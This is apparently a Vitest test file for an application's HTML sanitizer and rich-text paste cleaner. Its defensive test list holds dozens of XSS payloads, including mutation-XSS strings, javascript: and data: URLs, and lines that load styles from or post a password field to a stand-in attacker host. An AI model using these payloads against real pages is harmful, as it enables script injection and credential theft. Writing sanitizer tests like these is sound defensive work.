import { describe, expect, it } from 'vitest';
import { cleanHtml } from '#renderer/kit/rich-text/clean.ts';
import { findingsOf } from '#renderer/kit/rich-text/findings.ts';
import type { HtmlKind } from '#renderer/kit/rich-text/kinds.ts';
import { cleanPaste } from '#renderer/kit/rich-text/paste.ts';

/** Known attacks on a page that shows a text. */
const attacks: readonly string[] = [
  '<script>alert(1)</script><p>ok</p>',
  '<p onclick="alert(1)">ok</p>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onload=alert(1) style="background:url(javascript:alert(1))">',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "//evil.example";</style><style>p{background:url(//evil.example)}</style>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:alert(1)">',
  '<base href="//evil.example/"><link rel=stylesheet href="//evil.example/x.css"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<template><img src=x onerror=alert(1)></template>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://user:secret@evil.example/">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">ok</button></form>',
  '<p><p><script>alert(1)</scr<script>ipt></p></p>',
  '<<script>alert(1)//<</script>',
  '<p id="getElementById" name="body">ok</p>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<x-y is="z" onpointerenter=alert(1)>x</x-y>',
];

/** Whether HTML could run something, load something or send something away. */
function harm(html: string): string[] {
  const { body } = new DOMParser().parseFromString(html, 'text/html');
  return [...body.querySelectorAll('*')].flatMap((element) => [
    ...(/^(?:script|style|svg|math|object|embed|link|meta|base|form|input|button|template|noscript)$/i.test(
      element.tagName,
    )
      ? [element.tagName]
      : []),
    ...[...element.attributes].flatMap(({ name, value }) => {
      const isAddress = ['href', 'src', 'action', 'formaction', 'xlink:href'].includes(name);
      const isUnsafe = isAddress && !/^(?:https?:\/\/|mailto:|tel:|[/#?]|[\w-]+(?:[./?#]|$))/i.test(value);
      return name.startsWith('on') || name === 'srcdoc' || name === 'is' || isUnsafe || /@evil/.test(value)
        ? [`${name}=${value}`]
        : [];
    }),
  ]);
}

const kinds: readonly HtmlKind[] = ['text', 'article', 'shown'];

describe('cleaning HTML', () => {
  it.each(attacks.flatMap((attack) => kinds.map((kind) => [kind, attack] as const)))(
    'disarms as %s: %s',
    (kind, attack) => {
      const clean = cleanHtml(attack, kind);
      expect(harm(clean)).toEqual([]);
      // Cleaning the result again changes nothing.
      expect(cleanHtml(clean, kind)).toBe(clean);
    },
  );

  it('leaves allowed elements unchanged', () => {
    const text =
      '<h2>Un</h2><h3>Deux</h3><p>Trois <strong>a</strong> <em>b</em> <u>c</u><br><a href="https://example.org">d</a></p>' +
      '<ul><li>e</li></ul><ol><li>f</li></ol><p><a href="mailto:a@example.org">g</a> <a href="tel:+33380">h</a></p>';
    expect(cleanHtml(text, 'text')).toBe(text);
  });

  it('keeps the words and the meaning of elements that are not allowed', () => {
    expect(cleanHtml('<h1>Un</h1><div class="x"><b>Deux</b> <i>trois</i></div>', 'text')).toBe(
      '<h2>Un</h2><strong>Deux</strong> <em>trois</em>',
    );
    expect(cleanHtml('<p><a href="http://example.org">Un</a> <a href="/aide">deux</a></p>', 'text')).toBe(
      '<p>Un deux</p>',
    );
    expect(cleanHtml('<p><img src="https://example.org/a.png" alt="Affiche">Un</p>', 'text')).toBe('<p>Un</p>');
  });

  it('keeps the free HTML of an article', () => {
    const free =
      '<div class="row"><p style="text-align: center"><img src="https://example.org/a.png" alt="Affiche"></p></div>' +
      '<table><tbody><tr><td colspan="2">1</td></tr></tbody></table><p><a href="/aide" target="_blank">Aide</a></p>';
    expect(cleanHtml(free, 'article')).toBe(free);
    expect(cleanHtml('<iframe src="https://example.org"></iframe><p>Un</p>', 'article')).toBe('<p>Un</p>');
  });
});

describe('checking HTML', () => {
  it('names what saving would remove', () => {
    expect(
      findingsOf(
        '<p onclick="x()">a <a href="javascript:x()">b</a></p><iframe src="https://e.org"></iframe>',
        'article',
      ),
    ).toEqual({
      unbalanced: null,
      isUnreadable: false,
      elements: ['iframe'],
      attributes: ['onclick'],
      addresses: ['javascript:x()'],
    });
  });

  it.each([
    ['<p>Un', 'p'],
    ['<p>Un</div>', 'div'],
    ['</div>', 'div'],
    ['<p><strong>Un</p></strong>', 'p'],
  ])('names the element that is not well formed: %s', (html, name) => {
    expect(findingsOf(html, 'text').unbalanced).toBe(name);
  });

  it('finds nothing in valid HTML', () => {
    expect(findingsOf('<p>Un<br>deux</p>', 'text')).toEqual({
      unbalanced: null,
      isUnreadable: false,
      elements: [],
      attributes: [],
      addresses: [],
    });
    expect(findingsOf('<p>1 < 2</p><!-- x -->', 'text').isUnreadable).toBe(true);
  });
});

describe('pasting rich text', () => {
  it('converts a Word list to a list', () => {
    const word =
      '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>p.MsoNormal{margin:0}</style></head><body>' +
      '<!--[if gte mso 9]><xml></xml><![endif]--><p class=MsoNormal style="margin:0"><b>Titre</b><o:p></o:p></p>' +
      `<p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>·&nbsp;&nbsp;</span>Un</p>` +
      `<p class=MsoListParagraph style='mso-list:l0 level2 lfo1'><span style='mso-list:Ignore'>o&nbsp;</span>Deux</p>` +
      `<p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>·&nbsp;</span>Trois</p>` +
      '<p class=MsoNormal>Fin</p></body></html>';
    expect(cleanPaste(word, 'text')).toBe(
      '<p><strong>Titre</strong></p><ul><li>Un<ul><li>Deux</li></ul></li><li>Trois</li></ul><p>Fin</p>',
    );
  });

  it('converts a numbered Word list to a numbered one', () => {
    const word =
      `<p style='mso-list:l1 level1 lfo2'><span style='mso-list:Ignore'>1.&nbsp;</span>Un</p>` +
      `<p style='mso-list:l1 level1 lfo2'><span style='mso-list:Ignore'>2.&nbsp;</span>Deux</p>`;
    expect(cleanPaste(word, 'text')).toBe('<ol><li>Un</li><li>Deux</li></ol>');
  });

  it('keeps the formatting of Google Docs, and not its wrapper', () => {
    const docs =
      '<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-1"><p dir="ltr" style="line-height:1.4">' +
      '<span style="font-weight:400">Un </span><span style="font-weight:700">deux</span>' +
      '<span style="font-style:italic;font-weight:700"> trois</span><span style="text-decoration:underline"> quatre</span></p></b>';
    expect(cleanPaste(docs, 'text')).toBe(
      '<p>Un <strong>deux</strong><em><strong> trois</strong></em><u> quatre</u></p>',
    );
  });

  it('converts blocks to paragraphs and table rows to lines, without what is not text', () => {
    expect(
      cleanPaste(
        '<div style="color:red">Un</div><table><tr><td>1</td><td>2 €</td></tr></table><script>x()</script>',
        'article',
      ),
    ).toBe('<p>Un</p><p>1 2 €</p>');
    expect(cleanPaste('<p><a href="javascript:x()" onclick="x()">Un</a></p>', 'text')).toBe('<p>Un</p>');
  });
});
